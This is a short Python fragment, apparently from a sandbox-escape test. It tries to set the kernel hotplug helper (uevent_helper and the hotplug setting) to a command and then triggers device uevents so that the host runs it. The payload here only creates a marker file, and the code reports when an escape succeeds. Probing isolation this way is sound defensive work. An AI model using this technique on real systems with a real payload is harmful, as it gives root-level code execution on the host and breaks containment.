# Tries to name the program that the host runs for new devices, and to make devices appear
for path in ("/sys/kernel/uevent_helper", "/proc/sys/kernel/hotplug"):
    try:
        with open(path, "w") as helper:
            helper.write("/usr/bin/touch " + MARKER)
        escaped(path + " was written") if SHARED else None
    except OSError:
        pass
for path in glob.glob("/sys/class/*/*/uevent")[:20] + ["/sys/class/mem/null/uevent"]:
    try:
        with open(path, "w") as event:
            event.write("change")
        escaped(path + " was written") if SHARED else None
    except OSError:
        pass
